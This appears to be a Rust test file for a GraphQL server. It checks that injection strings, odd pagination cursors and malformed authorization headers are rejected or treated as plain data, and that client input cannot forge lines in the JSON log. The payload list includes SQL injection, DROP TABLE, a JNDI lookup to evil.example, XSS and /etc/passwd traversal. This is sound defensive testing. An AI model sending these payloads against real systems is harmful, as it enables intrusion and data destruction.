//! Words that are commands elsewhere: to a database, to a log, to a terminal, to a browser. Here they are words.

use serde_json::{Value, json};

use super::{Attack, How, Outcome, code, posted, withstand};
use crate::harness::Binary;

#[tokio::test]
async fn words_that_are_commands_elsewhere_are_words() {
    withstand("injections", &[]).await;
}

const WORDS: [&str; 16] = [
    "' OR '1'='1",
    "'; DROP TABLE article; --",
    "\" OR 1=1 --",
    "') UNION SELECT secret FROM key --",
    "\\'; SELECT pg_sleep(10); --",
    "1; ATTACH DATABASE 'x' AS y",
    "%' AND 1=1 AND '%'='",
    "$1",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "../../../etc/passwd",
    "\u{0}",
    "\u{1b}[2J\u{1b}[31mred",
    "line\r\nanother: line",
    "\u{202e}\u{feff}\u{200b}",
];

pub(super) fn attacks() -> Vec<Attack> {
    [words(), cursors(), keys()].into_iter().flatten().collect()
}

fn words() -> Vec<Attack> {
    let answered = [Outcome::Data, code("BAD_USER_INPUT"), code("NOT_FOUND")];
    let places = [
        ("slug", "query($w: String!) { __typename article(locale: \"en\", slug: $w) { id } }"),
        ("locale", "query($w: LocaleCode!) { __typename articles(locale: $w) { totalCount } }"),
        ("path", "query($w: String!) { __typename resolve(path: $w) { status } }"),
        ("id", "query($w: ID!) { __typename node(id: $w) { id } }"),
    ];
    let mut attacks = Vec::new();
    for word in WORDS {
        for (place, query) in places {
            let request = json!({ "query": query, "variables": { "w": word } });
            attacks.push(posted(format!("`{}` as {place}", word.escape_debug()), request.to_string(), &answered));
        }
    }
    attacks
}

fn cursors() -> Vec<Attack> {
    let query = "query($after: String) { articles(locale: \"en\", after: $after) { nodes { id } } }";
    let odd = ["x", "AAAA", "====", "\u{0}", "0", "-1", "eyJpZCI6MX0=", "a.b.c", "' OR 1=1 --"];
    let mut cursors: Vec<String> = odd.map(str::to_owned).into();
    cursors.push("A".repeat(900_000));
    cursors
        .iter()
        .map(|cursor| {
            let request = json!({ "query": query, "variables": { "after": cursor } });
            let name = format!("the cursor `{}`", cursor.escape_debug().take(20).collect::<String>());
            posted(name, Value::to_string(&request), &[code("BAD_USER_INPUT")])
        })
        .collect()
}

/// A key that is none is never taken for nobody's, or for somebody's.
fn keys() -> Vec<Attack> {
    let odd = [
        "Bearer",
        "Bearer ",
        "Bearer drg_",
        "Bearer drg_' OR 1=1 --",
        "Bearer null",
        "Bearer drg_x, Bearer drg_y",
        "Basic YWRtaW46YWRtaW4=",
        "Digest username=\"admin\"",
        "bearer\tdrg_x",
        "drg_x",
        "",
    ];
    let mut keys: Vec<String> = odd.map(str::to_owned).into();
    keys.push(format!("Bearer drg_{}", "x".repeat(20_000)));
    keys.iter()
        .map(|key| Attack {
            name: format!("the key `{}`", key.chars().take(30).collect::<String>()),
            how: How::Request {
                method: "POST",
                path: "/graphql".to_owned(),
                headers: vec![("content-type", "application/json".to_owned()), ("authorization", key.clone())],
                body: br#"{"query":"{ __typename }"}"#.to_vec(),
            },
            comes_to: vec![Outcome::Status(401)],
        })
        .collect()
}

/// RUSTSEC-2025-0055: what a client says stays within its field of the log.
#[tokio::test]
async fn the_log_stays_one_object_a_line_whatever_clients_say() {
    let binary = Binary::new().with("RUST_LOG", "debug,sqlx=warn").with("DRAGOMAN_LOG_FORMAT", "json");
    let running = binary.serve_logging_to("log", &[]).await;
    let forged = "\u{1b}[31m\r\n{\"level\":\"ERROR\",\"message\":\"forged\"}\n";
    let client = reqwest::Client::new();
    for _ in 0..3 {
        let name = json!({ "query": "{ __typename }", "operationName": forged });
        let slug = json!({ "query": "query($s: String!) { article(locale: \"en\", slug: $s) { id } }", "variables": { "s": forged } });
        for body in [name, slug] {
            let request = client.post(format!("{}/graphql", running.address)).json(&body);
            request.header("user-agent", "evil \"}{").header("accept-language", "\u{9}x").send().await.unwrap();
        }
    }

    running.end_by("INT").await;

    let log = std::fs::read_to_string(binary.path("log")).unwrap();
    let lines: Vec<_> = log.lines().filter(|line| !line.is_empty()).collect();
    assert!(!lines.is_empty());
    for line in lines {
        let object: Value = serde_json::from_str(line).unwrap_or_else(|error| panic!("{error}: {line}"));
        assert_ne!(object["message"], "forged", "{line}");
        assert!(!line.contains('\u{1b}'), "{line}");
    }
}
